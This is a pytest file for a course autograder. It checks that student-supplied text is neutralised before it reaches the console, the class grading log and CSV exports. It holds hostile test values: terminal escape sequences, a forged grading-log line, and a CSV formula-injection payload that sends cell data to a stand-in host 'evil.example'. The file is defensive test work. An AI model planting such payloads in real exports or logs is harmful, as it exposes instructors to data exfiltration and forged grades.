"""What a student wrote reaches the instructor inert (issue 45, principle 1 outside the browser): terminal escape
sequences in a notebook's bytes, a line break in a grade id, a formula in a regrade reason or an LMS name. Each
test sends them through one sink (the console, the class's grading log, a CSV) the way `course grade`,
`course regrade` or `course export` does, and checks that none arrives raw: a test that passes is an attack
that failed."""

from __future__ import annotations

import csv
import json
import logging
import shutil
from pathlib import Path

import pytest
from pipeline_fixture import FIXTURE, FIXTURE_COURSE, UNIT

from course.grading import grade, lms, semester, stats, worker
from course.judge import student_code
from course.layout import Course

ESCAPES = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b1m\u202e"  # OSC retitle, CSI clear and colour, C1 CSI, bidi override
)
FORGED = "\n######## bob/01_softmax\n[AutogradeApp | INFO] bob scored 100"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see the details")'
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def course_at(root: Path) -> Course:
    course = Course(root, FIXTURE_COURSE.wrong)
    shutil.copytree(FIXTURE / "source", course.source)
    return course


def assert_inert(text: str) -> None:
    assert not any(char in text for char in RAW), repr(text)


def csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells


def hostile_row() -> grade.Row:
    """A graded row whose flags carry what a student chose: escapes, a forged line, a formula first."""
    row = grade.Row("alice", UNIT, 2.0, score=1.0)
    row.flags += [FORMULA + ESCAPES + FORGED, f"softmax.ipynb: {ESCAPES}"]
    row.checks["softmax.ipynb/" + FORMULA] = {FORMULA + ESCAPES: False}
    return row


class Bar:
    """tqdm's bar as `grade.show_progress` uses it, printing what it is given."""

    def write(self, text):
        print(text)

    def set_postfix_str(self, text, refresh=True):
        print(text)

    def update(self):
        pass


def test_a_notebooks_escape_sequences_never_reach_the_console_through_intakes_refusal(tmp_path, capsys):
    """nbformat's error quotes the notebook's own `nbformat` field, and intake printed it raw."""
    course = course_at(tmp_path / "course")
    for student, text in [("alice", json.dumps({"nbformat": ESCAPES, "cells": []})), ("bob", None)]:
        (tmp_path / "class" / student / UNIT).mkdir(parents=True)
        text = text or (FIXTURE / "source" / UNIT / "softmax.ipynb").read_text(encoding="utf-8")
        (tmp_path / "class" / student / UNIT / "softmax.ipynb").write_text(text, encoding="utf-8")
    found = {i.student: i for i in grade.copy_class(course, tmp_path / "class")}
    shown = capsys.readouterr().out
    assert "alice" in shown and "\\x1b" in shown  # refused, the escapes shown as text
    assert_inert(shown)
    assert_inert(found["alice"].refused)
    assert found["bob"].refused == "" and (course.submitted / "bob" / UNIT / "softmax.ipynb").is_file()


def test_a_judge_flag_quoting_the_students_line_quotes_it_inert():
    source = f"import torch\nx = torch.nn.functional.scaled_dot_product_attention  # {ESCAPES}\n"
    (finding,) = student_code.scan(source)
    assert "scaled_dot_product" in str(finding) and "\\x1b" in str(finding)
    assert_inert(str(finding))


def test_grades_console_output_shows_a_students_flags_inert(capsys):
    row = hostile_row()
    grade.print_summary([row, grade.Row("bob", UNIT, 2.0, score=2.0)], verbose=True)
    grade.show_progress(Bar(), row, {})
    shown = capsys.readouterr().out
    assert "alice" in shown and "\\x1b" in shown
    assert_inert(shown)
    assert "\n######## bob" not in shown and "\n[AutogradeApp" not in shown


def test_grades_and_checks_csv_hold_no_escape_forged_line_or_formula(tmp_path):
    rows = [hostile_row(), grade.Row("bob", UNIT, 2.0, score=2.0)]
    grade.write_csv(rows, tmp_path / "grades.csv")
    stats.write_checks(rows, tmp_path / "checks.csv")
    for name in ("grades.csv", "checks.csv"):
        cells = csv_cells(tmp_path / name)
        assert any("HYPERLINK" in c for c in cells)
        assert_no_formula(cells)
        assert_inert("".join(cells))
        assert not [c for c in cells if "\n" in c], name
    # the file stays readable by what reads it back: a regrade of one student keeps the other lines as they were
    grade.write_csv(rows[1:], tmp_path / "grades.csv", keep_others=True)
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as f:
        kept = {r["student_id"]: r for r in csv.DictReader(f)}
    assert kept["alice"]["flag_reasons"].startswith("'=HYPERLINK") and kept["alice"]["score"] == "1"


def test_a_regrade_reason_goes_into_regrades_csv_without_its_formula(tmp_path):
    course = course_at(tmp_path / "course")
    semester.record_regrade(course, "alice", UNIT, FORMULA + ESCAPES + FORGED, "1", "2", "-2+3")
    cells = csv_cells(course.root / semester.REGRADE_LOG)
    assert any("HYPERLINK" in c for c in cells)
    assert_no_formula(cells)
    assert not [c for c in cells if c.startswith("-2")]
    assert_inert("".join(cells))
    assert len(list(csv.reader((course.root / semester.REGRADE_LOG).open(encoding="utf-8")))) == 2


def test_lms_exports_hold_no_formula_from_a_roster_name(tmp_path):
    """A Moodle student may edit their own name, and the roster is the LMS's export of it."""
    found = lms.Table([], {"alice": {}}, {"alice": {}})
    roster = {"alice": {"name": FORMULA + ESCAPES, "canvas_id": "101", "email": "@evil", "section": "+1"}}
    lms.write_canvas(found, roster, tmp_path / "canvas.csv")
    lms.write_moodle(found, roster, tmp_path / "moodle.csv", key="email")
    for name in ("canvas.csv", "moodle.csv"):
        cells = csv_cells(tmp_path / name)
        assert_no_formula(cells)
        assert_inert("".join(cells))
    assert "    Points Possible" in csv_cells(tmp_path / "canvas.csv")  # Canvas's own marker keeps its spaces


def test_a_pairs_log_cannot_forge_lines_of_the_class_grading_log(tmp_path, monkeypatch):
    """What a pair's job wrote (nbgrader's records, and anything the student's kernel wrote to its stderr) goes
    into the class's grading.log one line per line, each naming its pair: no line poses as another pair's."""

    def grade_pair(course, student, unit, timeout, folder, *_):
        (folder / "grading.log").write_text(
            f"[INFO] graded {ESCAPES}{FORGED}\r[INFO] fine\n", encoding="utf-8"
        )
        return grade.Row(student, unit, 1.0, score=1.0)

    monkeypatch.setattr(grade, "grade_pair", grade_pair)
    monkeypatch.setattr(grade, "merge_gradebooks", lambda *_: None)
    monkeypatch.setattr(grade, "save_progress", lambda course, row: None)
    folders = [tmp_path / "pair0", tmp_path / "pair1"]
    for folder in folders:
        folder.mkdir()
    log = tmp_path / "grading.log"
    grade.grade_pairs(None, [("alice", UNIT), ("carol", UNIT)], folders, 60, 1, log)
    text = log.read_text(encoding="utf-8")
    assert_inert(text)
    assert "\r" not in text
    headers = [line for line in text.splitlines() if line.startswith("######## ")]
    assert sorted(headers) == [f"######## alice/{UNIT}", f"######## carol/{UNIT}"]
    assert not [line for line in text.splitlines() if line.startswith("[")], text
    assert f"alice/{UNIT} | ######## bob/01_softmax" in text


def test_nbgraders_log_record_with_a_multiline_grade_id_stays_one_line():
    """nbgrader logs a student's grade id as it is ("Cell with id '%s' exists multiple times!"); the worker's
    records are one line each, whatever their fields hold."""
    from nbgrader.utils import capture_log

    worker.one_line_records()

    class App:
        log = logging.getLogger("test-neutral-app")

        def start(self):
            self.log.warning("Cell with id '%s' exists multiple times!", "cell" + ESCAPES + FORGED)
            self.log.info("second record")

    App.log.setLevel(logging.INFO)
    captured = capture_log(App())["log"]
    assert len(captured.splitlines()) == 2, captured
    assert_inert(captured)
    first = captured.splitlines()[0]
    assert "exists multiple times" in first and "bob scored 100" in first


@pytest.mark.parametrize("text", ["plain", "中文 · English", "a = b"])
def test_printable_text_is_kept_as_it_is(text):
    from course import neutral

    assert neutral.visible(text) == text == neutral.cell(text)
